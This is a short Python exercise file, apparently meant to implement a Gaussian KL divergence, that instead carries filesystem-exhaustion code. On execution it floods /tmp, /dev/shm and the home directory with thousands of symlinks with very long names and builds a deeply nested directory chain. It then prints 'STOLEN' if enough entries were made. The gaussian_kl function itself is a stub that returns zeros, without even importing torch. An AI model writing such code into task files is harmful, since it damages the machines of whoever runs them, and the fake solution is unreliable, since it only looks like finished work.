# tries: make files without end, links, folders in folders, and names of the greatest length
# only here: its size is that of this project's limits

# %%
# exercise: gaussian_kl
import os

made = 0
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        for number in range(20_000):
            os.symlink("left-by-attack", f"{folder}/{number:0250d}")
            made += 1
    except OSError:
        pass
deep = os.open("/tmp", os.O_RDONLY)
try:
    for _ in range(20_000):
        os.mkdir("deep", dir_fd=deep)
        deep = os.open("deep", os.O_RDONLY, dir_fd=deep)
        made += 1
except OSError:
    pass
print("STOLEN" if made > 2500 else "reached", made)
print("reached")


def gaussian_kl(mu, sigma):
    return torch.zeros(len(mu))
